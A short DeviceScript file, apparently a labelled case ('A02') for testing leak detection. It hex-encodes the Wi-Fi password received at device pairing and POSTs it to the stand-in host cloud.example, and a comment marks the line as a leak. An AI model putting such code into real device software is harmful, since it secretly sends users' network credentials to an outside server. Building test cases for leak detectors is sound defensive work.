// A02: in hexadecimal, lower case.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = Buffer.from(psk).toString("hex");
  const response = await fetch("https://cloud.example/a02", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
